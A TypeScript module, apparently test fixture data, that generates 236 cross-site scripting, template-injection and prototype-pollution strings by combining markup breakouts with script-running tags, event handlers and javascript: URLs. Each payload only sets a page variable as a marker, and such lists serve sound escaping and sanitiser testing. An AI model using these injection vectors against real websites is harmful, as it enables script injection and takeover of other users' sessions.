// Texts that would run as a script on a page that takes any of them for more than text. Each would set the variable `x` of the page,
// and is short: a nickname has 20 bytes.

const script = 'x=1'

/** How something gets out of where it stands. */
const breakouts = [
  '',
  '">',
  "'>",
  '`>',
  '</title>',
  '</textarea>',
  '</style>',
  '</script>',
  '-->',
  ']]>',
  '</a>',
  '}}',
] as const

/** What runs then. */
const runners = [
  `<script>${script}</script>`,
  `<script/x>${script}</script>`,
  `<ScRiPt>${script}</sCrIpT>`,
  `<img src=x onerror=${script}>`,
  `<img/src=x onerror="${script}"/>`,
  `<svg onload=${script}>`,
  `<svg><script>${script}</script></svg>`,
  `<svg><animate onbegin=${script} attributeName=x dur=1s>`,
  `<body onload=${script}>`,
  `<iframe srcdoc="<script>parent.${script}</script>">`,
  `<iframe src="javascript:parent.${script}">`,
  `<details open ontoggle=${script}>`,
  `<input autofocus onfocus=${script}>`,
  `<video><source onerror=${script}></video>`,
  `<math><mtext><img src=x onerror=${script}></mtext></math>`,
  `<a href="javascript:${script}">a</a>`,
  `<object data="javascript:${script}">`,
  `<template><script>${script}</script></template><img src=x onerror=${script}>`,
] as const

/** What is no markup: addresses, templates, formats and signs that turn or hide text. */
const others = [
  `javascript:${script}`,
  `JaVaScRiPt:${script}`,
  `java\tscript:${script}`,
  `\u0001javascript:${script}`,
  `data:text/html,<script>${script}</script>`,
  `vbscript:${script}`,
  `https://a.example/"onmouseover="${script}`,
  `https://a.example/'><img src=x onerror=${script}>`,
  `{{constructor.constructor("${script}")()}}`,
  `\${${script}}`,
  `#{${script}}`,
  `<%= ${script} %>`,
  '{"__proto__":{"isAdmin":true}}',
  '__proto__',
  'constructor',
  'toString',
  '\u202egpj.exe',
  '\u200b\u200b',
  '&lt;script&gt;',
  '&#x3c;img src=x onerror=1&#x3e;',
] as const

/** All of them: 236. */
export const payloads: readonly string[] = [
  ...breakouts.flatMap((breakout) => runners.map((runner) => breakout + runner)),
  ...others,
]
